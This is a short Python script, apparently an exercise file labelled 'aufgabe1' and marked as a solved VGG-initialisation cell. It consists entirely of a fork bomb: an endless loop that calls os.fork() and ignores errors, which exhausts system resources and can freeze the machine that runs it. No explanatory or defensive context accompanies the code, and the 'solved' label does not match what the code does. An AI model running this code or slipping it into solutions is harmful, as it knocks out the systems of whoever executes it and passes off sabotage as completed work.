"""Forks without end."""
# aufgabe1
# solved: a1-vgg-init
# %% a1-tv
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
